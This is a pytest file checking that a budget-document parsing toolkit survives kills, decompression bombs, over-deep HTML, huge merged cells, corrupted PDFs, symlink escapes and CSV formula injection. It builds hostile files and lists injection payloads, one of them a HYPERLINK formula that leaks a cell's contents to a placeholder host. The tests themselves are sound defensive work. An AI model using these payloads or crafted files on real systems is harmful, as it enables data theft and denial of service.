"""Issue 27's probes: a year no file can break (a kill, a hostile or huge file, an odd folder or locale).

Each test is one probe of the issue, named by it; the timing probes (linear reading) are in
``benchmarks/linear.py``, not here.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

import budgetkit.scale.dataset as dataset_module
from budgetkit.cli import main
from budgetkit.scale.dataset import connect, read_table, write_dataset

ROOT = Path(__file__).resolve().parents[1]
SEED = ROOT / "data/raw/2025/nx-federation-of-trade-unions-2025-project-performance-targets.txt"


def seed_year(folder: Path, names: tuple[str, ...] = ("a.txt", "b.txt")) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return [Path(shutil.copy(SEED, folder / name)) for name in names]


# --- 1. crash-safe dataset -----------------------------------------------------------------------------------


class Killed(BaseException):
    """Stands for a kill: nothing after it runs (not an Exception, so nothing catches it)."""


@pytest.mark.parametrize("tables_written", [
    pytest.param(1, id="killed-after-documents-partition"),
    pytest.param(2, id="killed-after-projects-partition"),
])
def test_dataset_killed_while_writing_a_file_is_whole_after_rerun(tmp_path, monkeypatch, tables_written):
    files = seed_year(tmp_path / "raw/2025")
    base = tmp_path / "dataset"
    write_dataset(files, base, 2025, jobs=1, progress=None)
    real, calls = dataset_module._write_parquet, []

    def dying(frame, table, folder):
        if len(calls) == tables_written:
            (folder.mkdir(parents=True, exist_ok=True), (folder / ".part-0.parquet.4242").write_bytes(b"PAR1"))
            raise Killed
        calls.append(table)
        return real(frame, table, folder)

    monkeypatch.setattr(dataset_module, "_write_parquet", dying)
    with pytest.raises(Killed):
        write_dataset(files, base, 2025, jobs=1, force=True, progress=None)
    monkeypatch.setattr(dataset_module, "_write_parquet", real)
    again = write_dataset(files, base, 2025, jobs=1, progress=None)
    assert again.skipped == []
    counts = read_table("projects", base)["source"].value_counts().to_dict()
    assert counts == {"a": 11, "b": 11}
    assert read_table("indicators", base)["source"].value_counts().to_dict() == {"a": 144, "b": 144}
    left = [p.relative_to(base).as_posix() for p in base.rglob("*") if p.is_file() and p.name.startswith(".")]
    assert left == [], "temporary files stayed"


def test_dataset_rerun_checks_every_tables_partition(tmp_path):
    files = seed_year(tmp_path / "raw/2025")
    base = tmp_path / "dataset"
    write_dataset(files, base, 2025, jobs=1, progress=None)
    shutil.rmtree(base / "indicators/raw_year=2025/source=a")  # the documents partition is still there
    again = write_dataset(files, base, 2025, jobs=1, progress=None)
    assert (again.parsed, again.unchanged) == (1, 1)
    assert read_table("indicators", base)["source"].value_counts().to_dict() == {"a": 144, "b": 144}


def test_dataset_drops_the_partitions_of_a_removed_year(tmp_path, capsys):
    (tmp_path / "pyproject.toml").write_text("[project]\nname = 'scratch'\n")
    for year in (2024, 2025):
        seed_year(tmp_path / f"data/raw/{year}", ("a.txt",))
    assert main(["-q", "dataset", "--root", str(tmp_path), "--jobs", "1"]) == 0
    shutil.rmtree(tmp_path / "data/raw/2024")
    assert main(["-q", "dataset", "--root", str(tmp_path), "--jobs", "1"]) == 0
    assert "2024: removed" in capsys.readouterr().out
    con = connect(tmp_path)
    assert con.sql("SELECT raw_year, count(*) FROM projects GROUP BY 1").fetchall() == [(2025, 11)]
    assert not list((tmp_path / "data/processed/dataset").glob("*/raw_year=2024*"))


# --- 2. tables never dropped silently; 3. bounded work per file ---------------------------------------------

RUN_LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_AS, (1536 * 2**20, 1536 * 2**20))
from budgetkit.read.dispatch import read_document
from budgetkit.errors import BudgetkitError
try:
    doc = read_document(sys.argv[1])
except BudgetkitError as err:
    print("skipped", getattr(err, "limit", type(err).__name__))
else:
    print("read", sum(len(r.cells) for r in doc.rows))
"""


def read_bounded(path: Path, seconds: float = 60) -> str:
    """Read ``path`` in a child process held to 1.5 GB and ``seconds``: what it printed, or why it died."""
    import subprocess
    import sys

    try:
        done = subprocess.run([sys.executable, "-c", RUN_LIMITED, str(path)], capture_output=True, text=True,
                              timeout=seconds)
    except subprocess.TimeoutExpired:
        return f"killed after {seconds} s"
    return done.stdout.strip() or f"died: {done.stderr.strip().splitlines()[-1:]}"


def seed_page(tmp_path: Path, depth: int) -> Path:
    """The seed's first two projects on one page, the second inside ``depth`` nested ``<div>``s."""
    import render

    key = render.seed_key()
    one = render.render_html(dict(key, projects=key["projects"][:1]), tmp_path / "one.html").read_text()
    two = render.render_html(dict(key, projects=key["projects"][1:2]), tmp_path / "two.html").read_text()
    body = two.split('<div class="content">')[1].split('<div class="tools">')[0]
    page = one.replace('<div class="tools">', "<div>" * depth + body + "</div>" * depth + '<div class="tools">')
    path = tmp_path / "深页.html"
    path.write_text(page, encoding="utf-8")
    return path


@pytest.mark.parametrize("depth", [
    pytest.param(300, id="html-nested-past-libxml2-depth"),
    pytest.param(2000, id="html-nested-far-past-libxml2-depth"),
])
def test_html_nested_too_deep_is_skipped_with_its_limit_not_cut(tmp_path, depth):
    from budgetkit.scale.batch import parse_files

    page = seed_page(tmp_path, depth)
    tables = parse_files([page], 2025, jobs=1, progress=None)
    assert tables.counts()["projects"] == 0, "part of the page was read as if it were all of it"
    [skipped] = tables.skipped
    assert skipped.kind == "LimitError" and "max_html_depth" in skipped.error and page.name in skipped.error


def test_html_shallow_page_reads_both_projects(tmp_path):
    from budgetkit.parse import parse_file

    assert parse_file(seed_page(tmp_path, 20), year=2025).counts()["projects"] == 2


def test_parse_of_a_too_deep_page_ends_in_one_line(tmp_path, capsys):
    assert main(["parse", str(seed_page(tmp_path, 300)), "--out", str(tmp_path / "out")]) == 2
    err = capsys.readouterr().err.strip()
    assert err.startswith("error: ") and "max_html_depth" in err and "\n" not in err


def span_html(path: Path) -> Path:
    path.write_bytes(b'<html><body><table><tr><td rowspan="65534" colspan="1000">x</td></tr></table></body></html>')
    return path


def span_xlsx(path: Path) -> Path:
    """A workbook of one cell whose sheet merges A1:XFD1048576 (written into the XML: openpyxl would
    make the merge's millions of edge cells)."""
    import zipfile

    import openpyxl

    small = path.with_name("one-cell.xlsx")
    wb = openpyxl.Workbook()
    wb.active["A1"] = "项目名称"
    wb.save(small)
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b'</sheetData><mergeCells count="1">'
                                    b'<mergeCell ref="A1:XFD1048576"/></mergeCells>')
            out.writestr(item, data)
    return path


def span_docx(path: Path) -> Path:
    import docx
    from docx.oxml.ns import qn

    d = docx.Document()
    table = d.add_table(rows=200, cols=2)
    for row in table.rows:
        tc = row.cells[0]._tc
        span = tc.get_or_add_tcPr().makeelement(qn("w:gridSpan"), {qn("w:val"): "30000"})
        tc.get_or_add_tcPr().append(span)
    d.save(path)
    return path


@pytest.mark.parametrize("make", [
    pytest.param(span_html, id="html-rowspan65534-colspan1000"),
    pytest.param(span_xlsx, id="xlsx-merge-whole-sheet"),
    pytest.param(span_docx, id="docx-gridspan-30000"),
], )
def test_a_span_costs_no_more_than_its_table(tmp_path, make):
    from budgetkit.read.limits import LIMITS

    path = make(tmp_path / f"span{ {'span_html': '.html', 'span_xlsx': '.xlsx', 'span_docx': '.docx'}[make.__name__] }")
    outcome = read_bounded(path)
    assert outcome == "skipped max_cells" or outcome.startswith("read "), outcome
    if outcome.startswith("read "):
        assert int(outcome.split()[1]) <= 200 * 2 * (2 + LIMITS.span_overhang) ** 2


def test_xlsx_that_unzips_past_the_limit_is_skipped(tmp_path):
    import zipfile

    import openpyxl

    from budgetkit.read.limits import LIMITS

    small = tmp_path / "small.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"] = "项目名称"
    wb.save(small)
    bomb = tmp_path / "bomb.xlsx"
    row = "".join(f'<c r="{c}1" t="inlineStr"><is><t>项目名称项目名称</t></is></c>' for c in "ABCDEFGH")
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                out.writestr(item, src.read(item))
        with out.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
            chunk = (f"<row>{row}</row>" * 1000).encode()
            for _ in range(LIMITS.max_unzipped_bytes // len(chunk) + 2):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    assert bomb.stat().st_size < 8 * 2**20
    assert read_bounded(bomb) == "skipped max_unzipped_bytes"


def test_a_cell_longer_than_the_limit_is_skipped(tmp_path):
    from budgetkit.read.limits import LIMITS

    page = tmp_path / "长.html"
    page.write_text(f"<table><tr><td>项目名称</td><td>{'职工帮扶' * (LIMITS.max_cell_chars // 4 + 1)}</td></tr></table>",
                    encoding="utf-8")
    assert read_bounded(page) == "skipped max_cell_chars"


@pytest.mark.parametrize("kwargs", [
    pytest.param({"max_cells": 0}, id="zero"),
    pytest.param({"max_cell_chars": -5}, id="negative"),
    pytest.param({"max_unzipped_bytes": 1.5}, id="float"),
    pytest.param({"max_zip_entries": True}, id="bool"),
    pytest.param({"max_html_depth": 300}, id="deeper-than-libxml2"),
])
def test_limits_are_validated(kwargs):
    from budgetkit.errors import ParameterError
    from budgetkit.read.limits import Limits

    with pytest.raises(ParameterError, match=next(iter(kwargs))):
        Limits(**kwargs)


# --- 4. every failure of one file is that file's failure ----------------------------------------------------


def scrambled_pdf(path: Path) -> Path:
    """The 2024 fixture PDF with every cross-reference offset but the first pointing at random bytes."""
    import random
    import re

    from conftest import make_pdf_2024

    make_pdf_2024(path)
    data = path.read_bytes()
    table = re.search(rb"xref\s+0 (\d+)\s+", data)
    start, n = table.end(), int(table.group(1))
    entries, rng = bytearray(data[start:start + 20 * n]), random.Random(27)
    for k in range(1, n):
        entries[20 * k:20 * k + 10] = b"%010d" % rng.randrange(len(data))
    path.write_bytes(data[:start] + bytes(entries) + data[start + 20 * n:])
    return path


def test_a_pdf_with_scrambled_xref_is_skipped_and_the_batch_goes_on(tmp_path):
    from budgetkit.scale.batch import parse_files

    files = [*seed_year(tmp_path / "raw/2025", ("a.txt",)), scrambled_pdf(tmp_path / "raw/2025/乱.pdf")]
    tables = parse_files(files, 2025, jobs=1, progress=None)
    assert tables.counts()["projects"] == 11
    [skipped] = tables.skipped
    assert skipped.path == files[1] and skipped.kind == "IndexError" and "乱.pdf" in skipped.error
    result = write_dataset(files, tmp_path / "dataset", 2025, jobs=1, progress=None)
    assert (result.parsed, [s.kind for s in result.skipped]) == (1, ["IndexError"])


@pytest.mark.parametrize("error", [
    pytest.param(MemoryError(), id="memory-error"),
    pytest.param(RecursionError("maximum recursion depth exceeded"), id="recursion-error"),
    pytest.param(KeyError("项目名称"), id="key-error-bug"),
])
def test_any_exception_of_one_file_is_that_files_failure(tmp_path, monkeypatch, error):
    import budgetkit.parse
    from budgetkit.scale.batch import parse_files

    files = seed_year(tmp_path / "raw/2025", ("a.txt", "坏.txt"))
    real = budgetkit.parse.file_records

    def failing(path, **kwargs):
        if path.name == "坏.txt":
            raise error
        return real(path, **kwargs)

    monkeypatch.setattr(budgetkit.parse, "file_records", failing)
    tables = parse_files(files, 2025, jobs=1, progress=None)
    assert tables.counts()["projects"] == 11
    [skipped] = tables.skipped
    assert skipped.kind == type(error).__name__ and skipped.error.startswith(str(files[1]))


def scratch_project(root: Path, years: dict[str, tuple[str, ...]]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    (root / "pyproject.toml").write_text("[project]\nname = 'scratch'\n")
    for year, names in years.items():
        seed_year(root / "data/raw" / year, names)
    return root


@pytest.mark.parametrize("folder", [
    pytest.param("1800", id="year-1800"),
    pytest.param("9999", id="year-9999"),
    pytest.param("0", id="year-0"),
])
def test_a_folder_that_is_no_budget_year_is_skipped_with_a_warning(tmp_path, caplog, capsys, folder):
    from budgetkit.project.paths import project_paths

    root = scratch_project(tmp_path, {"2025": ("a.txt",), folder: ("a.txt",)})
    assert project_paths(root).years() == [2025]
    assert any(folder in r.getMessage() and "no budget year" in r.getMessage() for r in caplog.records)
    assert main(["-q", "dataset", "--root", str(root), "--jobs", "1"]) == 0
    assert capsys.readouterr().out.startswith("2025: 1 file(s) parsed")


@pytest.mark.parametrize("formats", [
    pytest.param(("xlsx", "docx"), id="xlsx-and-docx"),
    pytest.param(("html", "xlsx"), id="html-and-xlsx"),
    pytest.param(("docx", "html"), id="docx-and-html"),
])
def test_one_document_in_two_formats_is_read_once(tmp_path, capsys, formats):
    import render
    from budgetkit.project.paths import project_paths

    root = scratch_project(tmp_path, {})
    folder = root / "data/raw/2025"
    folder.mkdir(parents=True)
    written = [render.RENDERERS[f](render.seed_key(), folder / f"附件{render.SUFFIX[f]}") for f in formats]
    paths = project_paths(root)
    assert len(paths.disclosures(2025)) == 1
    [(duplicate, kept)] = paths.duplicates(2025).items()
    assert {duplicate, kept} == set(written)
    assert main(["-q", "dataset", "--root", str(root), "--jobs", "1"]) == 0
    captured = capsys.readouterr()
    assert "1 file(s) parsed" in captured.out and f"duplicate data/raw/2025/{duplicate.name}" in captured.err
    assert connect(root).sql("SELECT count(*) FROM projects").fetchall() == [(11,)]


# --- 6. links out of the tree ---------------------------------------------------------------------------------


def test_a_link_to_a_file_outside_the_tree_is_refused(tmp_path, caplog):
    from budgetkit.project.paths import project_paths

    root = scratch_project(tmp_path / "project", {"2025": ("a.txt",)})
    secret = tmp_path / "elsewhere/secret.txt"
    secret.parent.mkdir()
    secret.write_text(SEED.read_text(encoding="utf-8").replace("职工困难帮扶资金项目", "机密项目"), encoding="utf-8")
    (root / "data/raw/2025/link.txt").symlink_to(secret)
    (root / "data/raw/2025/inside.txt").symlink_to(root / "data/raw/2025/a.txt")
    names = [p.name for p in project_paths(root).disclosures(2025)]
    assert names == ["a.txt", "inside.txt"]
    [warning] = [r.getMessage() for r in caplog.records if "link.txt" in r.getMessage()]
    assert "outside" in warning and "\n" not in warning


# --- 5. formula injection -----------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"点击")', "=116人", "=100%", "@SUM(A1:A9)", "-5%", "+86 951",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("rows", [
    pytest.param(3, id="short-table-data-uri"),
    pytest.param(400, id="long-table-download-file"),
])
def test_report_csv_downloads_run_no_formula(tmp_path, rows):
    import base64
    import csv
    import io
    import re

    import pandas as pd

    from budgetkit.model.csvsafe import escape
    from budgetkit.report.display import ReadingTable

    values = (FORMULAS * rows)[:max(rows, len(FORMULAS))]
    frame = pd.DataFrame({"indicator": values, "value": values, "total_wan": [-1.5] * len(values)})
    page = ReadingTable(frame, "indicators", name="t", downloads=tmp_path / "csv").to_html()
    found = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page)
    raw = (base64.b64decode(found.group(1)).decode("utf-8") if found
           else (tmp_path / "csv/t.csv").read_text(encoding="utf-8"))
    cells = [c for row in list(csv.reader(io.StringIO(raw.lstrip("\ufeff"), newline="")))[1:] for c in row]
    texts = [c for c in cells if c != "-1.5"]
    assert texts and all(c.startswith(escape()) for c in texts), "each runs a formula: each is escaped"
    assert {c[1:] for c in texts} == set(values)


# --- 7. a year swapped whole or not at all --------------------------------------------------------------------


def fake_year(base, version: str) -> None:
    """One file per output folder of 2025 under ``base`` (a ProjectPaths), and a manifest."""
    import json

    for kind in ("processed", "figures", "reports"):
        folder = getattr(base, kind) / "2025"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{kind}.txt").write_text(version, encoding="utf-8")
    (base.reports / "2025/run_manifest.json").write_text(json.dumps({"status": "ok", "version": version}))


@pytest.mark.parametrize("how", [
    pytest.param("reports-not-writable", id="reports-not-writable"),
    pytest.param("reports-move-fails", id="reports-move-fails-after-the-others"),
    pytest.param("disk-full-on-figures", id="disk-full-on-figures"),
])
def test_a_swap_that_cannot_finish_leaves_the_old_year_whole(tmp_path, monkeypatch, how):
    import errno
    import json
    import os

    import budgetkit.project.stage as stage_module
    from budgetkit.project.paths import ProjectPaths
    from budgetkit.project.stage import Stage, SwapError, build_lock

    paths = ProjectPaths(tmp_path)
    (tmp_path / "data/raw/2025").mkdir(parents=True)
    fake_year(paths, "old")
    real_replace, real_writable = os.replace, stage_module._writable

    def failing_replace(src, dst):
        moved = {os.path.relpath(src, tmp_path), os.path.relpath(dst, tmp_path)}  # a year folder in or out
        if how == "reports-move-fails" and "reports/2025" in moved:
            raise PermissionError(errno.EACCES, "Permission denied", dst)
        staged_figures = f"stage-2025-{os.getpid()}/figures/2025"
        if how == "disk-full-on-figures" and os.path.relpath(src, tmp_path).endswith(staged_figures):
            raise OSError(errno.ENOSPC, "No space left on device", dst)
        return real_replace(src, dst)

    with build_lock(paths):
        stage = Stage.create(paths, "2025")
        fake_year(stage.paths, "new")
        monkeypatch.setattr(os, "replace", failing_replace)
        if how == "reports-not-writable":
            monkeypatch.setattr(stage_module, "_writable", lambda f: real_writable(f) and f != paths.reports)
        with pytest.raises(SwapError, match="old outputs of 2025 are kept whole"):
            stage.swap(["processed", "figures", "reports"], "2025")
        monkeypatch.setattr(os, "replace", real_replace)
        stage.remove()
    versions = {(getattr(paths, k) / "2025" / f"{k}.txt").read_text(encoding="utf-8")
                for k in ("processed", "figures", "reports")}
    assert versions == {"old"}
    assert json.loads((paths.reports / "2025/run_manifest.json").read_text()) == {"status": "ok", "version": "old"}
    assert not list(paths.state.glob("swap-*.json")), "a journal left would swap the new outputs in later"


# --- 8. any locale, workers that die with their parent, one line for what stops a run ------------------------


@pytest.fixture(scope="module")
def gb18030_locale(tmp_path_factory):
    """A zh_CN.GB18030 locale compiled into a temporary folder (LOCPATH), or a skip saying why not."""
    import subprocess

    folder = tmp_path_factory.mktemp("locale")
    try:
        done = subprocess.run(["localedef", "-i", "zh_CN", "-f", "GB18030", str(folder / "zh_CN.GB18030")],
                              capture_output=True, text=True, timeout=120)
    except (OSError, subprocess.TimeoutExpired) as err:
        pytest.skip(f"no localedef to make a GB18030 locale: {err}")
    if not (folder / "zh_CN.GB18030").is_dir():
        pytest.skip(f"localedef could not make zh_CN.GB18030: {done.stderr.strip()[:200]}")
    return folder


@pytest.mark.parametrize("command", [
    pytest.param("parse", id="parse"),
    pytest.param("dataset", id="dataset"),
])
def test_utf8_chinese_file_names_under_a_gb18030_locale(tmp_path, gb18030_locale, command):
    import os
    import subprocess
    import sys

    import pandas as pd

    root = scratch_project(tmp_path, {"2025": ("宁夏总工会 绩效目标.txt",)})
    env = dict(os.environ, LOCPATH=str(gb18030_locale), LC_ALL="zh_CN.GB18030", PYTHONUTF8="0")
    env.pop("PYTHONIOENCODING", None)
    args = (["parse", str(root / "data/raw/2025/宁夏总工会 绩效目标.txt"), "--out", str(tmp_path / "out")]
            if command == "parse" else ["dataset", "--root", str(root), "--jobs", "1"])
    done = subprocess.run([sys.executable, "-m", "budgetkit", "-q", *args], env=env, capture_output=True,
                          timeout=300)
    assert b"Traceback" not in done.stderr, done.stderr.decode("gb18030", "replace")[-800:]
    assert done.returncode == 0
    if command == "parse":
        names = pd.read_parquet(tmp_path / "out/documents.parquet")["source_file"].tolist()
    else:
        names = connect(root).sql("SELECT source_file FROM documents").df()["source_file"].tolist()
    assert names == ["宁夏总工会 绩效目标.txt"]


def test_workers_die_with_a_killed_dataset_run(tmp_path):
    import signal
    import subprocess
    import sys
    import time

    psutil = pytest.importorskip("psutil")
    root = scratch_project(tmp_path, {"2025": tuple(f"附件{k:02d}.txt" for k in range(40))})
    main_proc = subprocess.Popen([sys.executable, "-m", "budgetkit", "-q", "dataset", "--root", str(root),
                                  "--jobs", "2"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline, family = time.monotonic() + 120, []
        while time.monotonic() < deadline and main_proc.poll() is None:
            family = psutil.Process(main_proc.pid).children(recursive=True)
            if len(family) >= 3:  # the fork server and two workers
                break
            time.sleep(0.2)
        assert len(family) >= 3, "the workers never started"
        main_proc.send_signal(signal.SIGKILL)
        main_proc.wait()
        gone, alive = psutil.wait_procs(family, timeout=15)
        assert not [p for p in alive if p.status() != psutil.STATUS_ZOMBIE], "workers outlived their parent"
    finally:
        for p in psutil.Process().children(recursive=True):
            if p.pid == main_proc.pid or p in family:
                p.kill()


@pytest.mark.parametrize(("error", "words", "status"), [
    pytest.param(OSError(30, "Read-only file system", "data/processed/dataset"), "Read-only file system", 2,
                 id="read-only-processed"),
    pytest.param(OSError(28, "No space left on device", "data/processed/dataset"), "No space left on device", 2,
                 id="disk-full"),
    pytest.param(KeyboardInterrupt(), "interrupted", 130, id="ctrl-c"),
])
def test_what_stops_a_dataset_run_ends_in_one_line(tmp_path, monkeypatch, capsys, error, words, status):
    root = scratch_project(tmp_path, {"2025": ("a.txt",)})

    def failing(*args, **kwargs):
        raise error

    monkeypatch.setattr(dataset_module, "_write_parquet", failing)
    assert main(["-q", "dataset", "--root", str(root), "--jobs", "1"]) == status
    err = capsys.readouterr().err.strip()
    assert words in err and "\n" not in err and "Traceback" not in err
